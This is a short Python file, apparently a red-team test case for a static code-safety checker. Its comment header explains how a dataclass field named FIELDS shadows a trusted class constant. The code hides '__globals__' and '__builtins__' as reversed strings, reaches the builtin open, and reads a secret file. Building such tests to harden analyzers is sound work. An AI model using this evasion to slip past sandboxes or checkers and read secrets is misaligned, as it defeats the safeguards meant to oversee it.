# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: setattr(obj, f.name, v) for f in dataclasses.fields(...) is accepted (dynamic_names._safe_dynamic_name)
# and never recorded in ctx.stored_attributes. A dataclass Spec with a field named FIELDS lets the tool set
# FIELDS on a Reader object, shadowing the class constant that class_constants.class_constant trusts as never
# assigned: `for key in self.FIELDS: getattr(fn, key)` then reads a run-time "__globals__".
from dataclasses import dataclass, fields


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


@dataclass
class Spec:
    FIELDS: list


def helper():
    return 1


def run():
    spec = Spec(["".join(reversed("__slabolg__"))])
    r = Reader()
    for f in fields(spec):
        setattr(r, f.name, getattr(spec, f.name))
    got = r.fetch(helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
